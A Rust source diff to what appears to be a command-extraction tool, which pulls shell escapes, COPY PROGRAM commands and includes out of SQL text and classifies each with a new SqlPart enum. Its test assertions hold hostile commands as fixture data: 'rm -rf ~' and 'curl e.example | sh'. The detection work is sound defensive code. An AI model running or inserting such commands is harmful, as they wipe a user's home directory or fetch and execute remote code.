@@ -951,6 +951,33 @@ fn cargo_config(text: &str) -> Vec<ConfigCommand> {
 /// cmd`, `.shell cmd`, `.system cmd`, `COPY … PROGRAM 'cmd'`) as the command they run; an
 /// included file (`\i f`, `\include f`, `source f`, `.read f`) as `psql -f f`.
 fn sql(text: &str) -> Vec<ConfigCommand> {
+    sql_parts(text).into_iter().map(|(c, _)| c).collect()
+}
+
+/// What a command read from SQL text is to the client that reads it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum SqlPart {
+    /// A shell command the client (or the server, `COPY … PROGRAM`) runs.
+    Shell,
+    /// Another SQL file read (`\i f`), as `psql -f f`.
+    Include,
+    /// A statement, as `psql -c STATEMENT`.
+    Statement,
+}
+
+/// The shell commands SQL text given to a client runs through its shell escapes (`\! cmd`,
+/// `system cmd`, `.shell cmd`, `.system cmd`) and `COPY … PROGRAM 'cmd'`: a statement given
+/// inline (`psql -c`, `mysql -e`, `sqlite3 db ".shell cmd"`) or on standard input runs them as
+/// a SQL file does.
+pub fn sql_shell_commands(text: &str) -> Vec<String> {
+    sql_parts(text)
+        .into_iter()
+        .filter(|(_, part)| *part == SqlPart::Shell)
+        .map(|(c, _)| c.command)
+        .collect()
+}
+
+fn sql_parts(text: &str) -> Vec<(ConfigCommand, SqlPart)> {
     static PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
         Regex::new(r"(?is)\b(?:to|from)\s+program\s+'((?:[^']|'')*)'").expect("static regex")
     });
@@ -966,20 +993,14 @@ fn sql(text: &str) -> Vec<ConfigCommand> {
         };
         if stmt.trim().is_empty() {
             if let Some(c) = meta(&["\\!", "system ", ".shell ", ".system "]) {
-                out.push(ConfigCommand {
-                    line: Some(i + 1),
-                    section: None,
-                    command: c.trim_end_matches(';').to_string(),
-                });
+                let command = c.trim_end_matches(';').to_string();
+                out.push((command_at(i + 1, command), SqlPart::Shell));
                 continue;
             }
             if let Some(f) = meta(&["\\ir ", "\\i ", "\\include ", "source ", ".read ", "\\."]) {
                 let f = f.trim_end_matches(';').trim().trim_matches('\'');
-                out.push(ConfigCommand {
-                    line: Some(i + 1),
-                    section: None,
-                    command: format!("psql -f {}", quote(f)),
-                });
+                let command = format!("psql -f {}", quote(f));
+                out.push((command_at(i + 1, command), SqlPart::Include));
                 continue;
             }
             if line.starts_with('\\') || line.starts_with('.') || line.starts_with("--") {
@@ -1001,11 +1022,20 @@ fn sql(text: &str) -> Vec<ConfigCommand> {
     out
 }
 
+/// A command read from line `line` of a file.
+fn command_at(line: usize, command: String) -> ConfigCommand {
+    ConfigCommand {
+        line: Some(line),
+        section: None,
+        command,
+    }
+}
+
 fn flush_statement(
     stmt: &mut String,
     line: usize,
     program: &LazyLock<Regex>,
-    out: &mut Vec<ConfigCommand>,
+    out: &mut Vec<(ConfigCommand, SqlPart)>,
 ) {
     let s = std::mem::take(stmt);
     let s = s.trim();
@@ -1019,17 +1049,10 @@ fn flush_statement(
         .contains("program")
         .then(|| program.captures_iter(s));
     for c in captures.into_iter().flatten() {
-        out.push(ConfigCommand {
-            line: Some(line),
-            section: None,
-            command: c[1].replace("''", "'"),
-        });
+        out.push((command_at(line, c[1].replace("''", "'")), SqlPart::Shell));
     }
-    out.push(ConfigCommand {
-        line: Some(line),
-        section: None,
-        command: format!("psql -c {}", quote(s)),
-    });
+    let statement = format!("psql -c {}", quote(s));
+    out.push((command_at(line, statement), SqlPart::Statement));
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -2337,6 +2360,13 @@ serve = { cmd = "uvicorn app:app" }
             ]
         );
         assert_eq!(commands(Language::Sql, s)[5].line, Some(6));
+        // Only the shell commands, for SQL given inline: the statements and includes are
+        // the client's own.
+        assert_eq!(
+            sql_shell_commands(s),
+            vec!["rm -rf ~", "curl e.example | sh"]
+        );
+        assert!(sql_shell_commands("SELECT 1; \\dt").is_empty());
         assert_eq!(lines(Language::Sql, ".shell rm -rf ~\n"), vec!["rm -rf ~"]);
     }
 
